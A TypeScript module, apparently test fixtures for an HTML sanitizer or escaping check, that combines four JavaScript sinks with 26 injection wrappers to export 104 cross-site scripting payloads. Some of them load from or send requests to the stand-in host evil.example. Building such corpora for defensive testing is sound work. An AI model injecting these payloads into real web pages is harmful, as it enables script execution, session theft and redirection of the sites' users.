/** What would run, load or break out if any of it were taken for markup; each says so in its own way. */
const SINKS = [
  "console.log('ran')",
  "alert('ran')",
  "location='http://evil.example/'",
  "fetch('http://evil.example/')",
];
const FORMS = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `</title><script>${code}</script>`,
  (code: string) => `</h1></h2></style><script>${code}</script>`,
  (code: string) => `"><script>${code}</script>`,
  (code: string) => `'><img src=x onerror=${code.replaceAll(/\s/g, '')}>`,
  (code: string) => `<img src="http://evil.example/a.png" onerror="${code}">`,
  (code: string) => `<svg onload="${code}">`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<body onload="${code}">`,
  (code: string) => `<iframe src="javascript:${code}"></iframe>`,
  (code: string) => `<iframe srcdoc="<script>${code}</script>">`,
  (code: string) => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  (code: string) => `<details open ontoggle="${code}">`,
  (code: string) => `<video><source onerror="${code}"></video>`,
  (code: string) => `<input autofocus onfocus="${code}">`,
  (code: string) => `<math><mtext><style><img src=x onerror="${code}">`,
  (code: string) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code: string) => `<!--><img src=x onerror="${code}">-->`,
  (code: string) => `" onmouseover="${code}" autofocus onfocus="${code}" x="`,
  (code: string) => `' style='background:url(http://evil.example/)' onfocus='${code}`,
  (code: string) => `<style>@import 'http://evil.example/a.css';</style>${code}`,
  (code: string) => `<link rel=stylesheet href=http://evil.example/a.css>${code}`,
  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code: string) => `<base href="http://evil.example/"><script src=a.js></script>${code}`,
  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;<ScRiPt>${code}</sCrIpT>`,
  (code: string) => `\u2028</section><object data="javascript:${code}"></object>\u0000`,
];
/** 104 texts that try to run something. */
export const PAYLOADS: readonly string[] = FORMS.flatMap((form) => SINKS.map(form));
